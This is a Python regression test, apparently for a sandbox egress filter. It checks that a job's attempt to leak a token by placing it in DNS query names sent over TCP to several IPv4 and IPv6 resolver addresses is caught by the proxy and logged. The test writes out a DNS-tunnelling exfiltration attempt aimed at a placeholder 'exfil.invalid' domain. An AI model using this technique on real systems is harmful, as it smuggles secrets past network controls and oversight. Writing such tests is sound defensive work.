"""DNS over TCP to arbitrary addresses (no server there, the world's dnsmasq, IPv6, IPv4-mapped) asking a name that carries the token: everything goes to the job's proxy (regression)."""
from vlib import *  # noqa: F401,F403

POLICY = {"allow": ["ok.test:443"]}
AS = ("nobody", "root")
SINKS_OK = []
RECORD = [("egress.dns", {"egress.reason": "dns_unlisted"})]


def job(token, args):
    q = dns_query_bytes("%s.exfil.invalid" % token)
    for server in ("198.18.1.9", DNS_V4, DNS_V6, D6, "::ffff:198.18.1.9"):
        attempt("tcp @%s" % server, lambda: len(dns_tcp(server, q)))


if __name__ == "__main__":
    main(globals())
